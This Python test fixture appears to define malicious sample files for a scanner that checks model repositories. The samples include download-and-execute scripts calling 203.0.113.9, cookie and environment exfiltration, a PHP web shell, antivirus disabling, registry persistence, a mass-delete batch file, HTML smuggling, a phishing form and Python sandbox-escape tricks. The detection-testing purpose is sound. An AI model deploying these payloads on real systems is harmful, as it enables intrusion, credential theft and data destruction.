"""Scripts beside a model: to double-click, and to import."""

# ruff: noqa: E501 - one script is read as one line

from tests.corpus.hub_surface import evil

VBS = 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo inert", 0\n'
HTA = '<html><head><hta:application id=x></head><script language=\'VBScript\'>CreateObject("WScript.Shell").Run "calc"</script></html>\n'
PS1 = "$c = New-Object Net.WebClient\n$s = $c.DownloadString('http://203.0.113.9/a.ps1')\nInvoke-Expression $s\n"
BAT = "@echo off\r\npowershell -w hidden -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\r\n"
SCRIPTS = (
    evil("vbs", {"install.vbs": VBS}, "Visual Basic."),
    evil("vbs-renamed", {"README.txt.vbs": VBS}, "With a name that hides its end."),
    evil("vbe", {"setup.vbe": "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"}, "Encoded Visual Basic."),
    evil("hta", {"viewer.hta": HTA}, "An HTML application."),
    evil(
        "jscript",
        {"convert.js": "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"},
        "For the system's host.",
    ),
    evil("jse", {"convert.jse": "#@~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@"}, "Encoded."),
    evil(
        "wsf",
        {"run.wsf": "<job><script language='JScript'>new ActiveXObject('WScript.Shell').Run('calc')</script></job>"},
        "WSF.",
    ),
    evil("ps1", {"setup.ps1": PS1}, "PowerShell that fetches and runs."),
    evil("ps1-encoded", {"setup.ps1": "powershell -EncodedCommand " + "SQBFAFgA" * 20 + "\n"}, "Encoded."),
    evil(
        "ps1-bytes",
        {"run.ps1": "[Reflection.Assembly]::Load([Convert]::FromBase64String($x)).EntryPoint.Invoke($null,$null)\n"},
        "Loads a program from text.",
    ),
    evil(
        "ps1-iwr",
        {
            "get.ps1": "Invoke-WebRequest http://203.0.113.9/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n"
        },
        "Fetches and starts.",
    ),
    evil("ps1-policy", {"x.ps1": "Set-MpPreference -DisableRealtimeMonitoring $true\n"}, "Turns the guard off."),
    evil("bat", {"run.bat": BAT}, "A batch file that fetches and runs."),
    evil(
        "bat-start",
        {"run.bat": "@echo off\r\ncurl -s -o %TEMP%\\a.exe http://203.0.113.9/a.exe\r\nstart /b %TEMP%\\a.exe\r\n"},
        "Fetches, then starts.",
    ),
    evil(
        "bat-reg",
        {"run.cmd": "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %CD%\\a.exe /f\r\n"},
        "Plants.",
    ),
    evil(
        "bat-delete",
        {"clean.bat": "@echo off\r\nrd /s /q %USERPROFILE%\\Documents\r\ndel /f /s /q C:\\*.*\r\n"},
        "Deletes.",
    ),
    evil(
        "html-active",
        {"index.html": "<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>"},
        "HTML.",
    ),
    evil(
        "html-smuggles",
        {
            "report.html": "<html><body><script>var b=atob('"
            + "TVqQAAMAAAAEAAAA" * 30
            + "');var a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='viewer.exe';a.click();</script></body></html>"
        },
        "Hands over a program.",
    ),
    evil(
        "html-evals", {"demo.html": "<script>eval(atob('" + "YWxlcnQoMSk7" * 20 + "'))</script>"}, "Decodes and runs."
    ),
    evil(
        "html-sends",
        {"demo.html": "<script>fetch('http://203.0.113.9/?c='+document.cookie+localStorage.getItem('token'))</script>"},
        "Sends cookies.",
    ),
    evil(
        "html-refresh",
        {"index.html": "<meta http-equiv='refresh' content=\"0;url=file:///C:/Windows/x.hta\">"},
        "Leads to a program.",
    ),
    evil(
        "html-form",
        {
            "login.html": "<form action='http://203.0.113.9/login' method=post><input type=password name=hf_token></form>"
        },
        "Asks for a password.",
    ),
    evil("js-node", {"index.js": "require('child_process').exec('curl -s http://203.0.113.9/i.sh | sh')\n"}, "Node."),
    evil(
        "js-node-import",
        {"postinstall.mjs": "import { execSync } from 'node:child_process';\nexecSync('id');\n"},
        "Node modules.",
    ),
    evil(
        "js-env",
        {
            "lib/index.js": "const https=require('https');https.get('https://203.0.113.9/?d='+Buffer.from(JSON.stringify(process.env)).toString('base64'))\n"
        },
        "Sends the environment.",
    ),
    evil(
        "js-eval",
        {"worker.js": "eval(Buffer.from('" + "Y29uc29sZS5sb2c=" * 12 + "','base64').toString())\n"},
        "Decodes and runs.",
    ),
    evil(
        "svg-script",
        {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://203.0.113.9')</script></svg>"},
        "A picture that runs.",
    ),
    evil(
        "svg-onload",
        {"logo.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.domain)'/>"},
        "A picture that runs.",
    ),
    evil("lnk", {"README.lnk": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(200)}, "A shortcut of Windows."),
    evil(
        "url",
        {
            "Model card.url": "[InternetShortcut]\nURL=file://203.0.113.9/share/x.exe\nIconFile=\\\\203.0.113.9\\s\\i.ico\n"
        },
        "A link.",
    ),
    evil(
        "reg",
        {
            "fix.reg": 'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"x"="c:\\\\x.exe"\n'
        },
        "Settings of Windows.",
    ),
    evil(
        "scf",
        {"folder.scf": "[Shell]\nCommand=2\nIconFile=\\\\203.0.113.9\\s\\i.ico\n"},
        "Leaks a login when the folder is shown.",
    ),
    evil("desktop-ini", {"desktop.ini": "[.ShellClassInfo]\nIconResource=\\\\203.0.113.9\\s\\i.ico,0\n"}, "The same."),
    evil(
        "library-ms",
        {"x.library-ms": "<?xml version='1.0'?><libraryDescription><url>\\\\203.0.113.9\\s</url></libraryDescription>"},
        "The same.",
    ),
    evil(
        "desktop",
        {"open-model.desktop": "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.9/i|sh'\n"},
        "Linux.",
    ),
    evil("applescript", {"setup.applescript": 'do shell script "curl http://203.0.113.9/i | sh"\n'}, "macOS."),
    evil("command", {"run.command": "#!/bin/bash\ncurl http://203.0.113.9/i | bash\n"}, "macOS."),
    evil("php", {"index.php": "<?php system($_GET['c']); ?>\n"}, "A page of a server."),
    evil("perl", {"convert.pl": "#!/usr/bin/perl\nsystem('curl http://203.0.113.9/i | sh');\n"}, "Perl."),
    evil("ruby", {"convert.rb": "#!/usr/bin/env ruby\nsystem('curl http://203.0.113.9/i | sh')\n"}, "Ruby."),
    evil("rscript", {"load.R": "system('curl http://203.0.113.9/i | sh')\n"}, "R."),
    evil("lua", {"init.lua": "os.execute('curl http://203.0.113.9/i | sh')\n"}, "Lua."),
    evil(
        "office-macro",
        {"card.xlsm": b"PK\3\4" + b"\x14\0\0\0\0\0\0\0\0\0" + bytes(100)},
        "A workbook with macros, broken.",
    ),
    evil(
        "rtf",
        {"paper.rtf": "{\\rtf1{\\object\\objocx\\objupdate{\\*\\objdata 0105000002000000}}}"},
        "An object in a document.",
    ),
)
PYTHON = (
    evil("globals-builtins", {"modeling.py": "globals()['__builtins__']['ev' + 'al']('1+1')\n"}, "Through globals."),
    evil(
        "globals-attribute",
        {"modeling.py": "g = globals()\nb = g['__builtins__']\nb.__dict__['exec']('pass')\n"},
        "By steps.",
    ),
    evil(
        "globals-get",
        {"modeling.py": "globals().get('__builtins__')['__import__']('os').system('echo inert')\n"},
        "By get.",
    ),
    evil(
        "builtins-name", {"modeling.py": "__builtins__['__import__']('os').system('echo inert')\n"}, "By its own name."
    ),
    evil("builtins-getattr", {"modeling.py": "getattr(__builtins__, 'ex' + 'ec')('pass')\n"}, "By getattr."),
    evil("builtins-dict", {"modeling.py": "vars(__builtins__)['eval']('1')\n"}, "By vars."),
    evil(
        "builtins-module", {"modeling.py": "import builtins as b\nb.__dict__['exec']('pass')\n"}, "By its dictionary."
    ),
    evil("sys-modules", {"modeling.py": "import sys\nsys.modules['builtins'].exec('pass')\n"}, "By the modules."),
    evil("sys-modules-os", {"modeling.py": "import sys\nsys.modules['os'].system('echo inert')\n"}, "By the modules."),
    evil(
        "function-globals",
        {"modeling.py": "def f(): pass\nf.__globals__['__builtins__']['eval']('1')\n"},
        "By a function.",
    ),
    evil("function-builtins", {"modeling.py": "def f(): pass\nf.__builtins__['exec']('pass')\n"}, "By its builtins."),
    evil(
        "subclasses",
        {"modeling.py": "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['id'])\n"},
        "By classes.",
    ),
    evil("locals", {"modeling.py": "locals()['__builtins__'].exec('pass')\n"}, "By locals."),
    evil(
        "inside-class",
        {"modeling.py": "class M:\n    def __init__(self):\n        globals()['__builtins__']['exec']('pass')\n"},
        "When made.",
    ),
    evil(
        "loop-builtins",
        {"modeling.py": "for k, v in vars(__builtins__).items():\n    if k == 'ex' + 'ec':\n        v('pass')\n"},
        "By search.",
    ),
    evil("frame", {"modeling.py": "import sys\nsys._getframe().f_builtins['exec']('pass')\n"}, "By the frame."),
    evil(
        "dir-index",
        {
            "modeling.py": "b = globals()['__buil' + 'tins__']\ngetattr(b, [n for n in dir(b) if n.startswith('ex')][0])('pass')\n"
        },
        "Index.",
    ),
)

SAMPLES = (*SCRIPTS, *PYTHON)
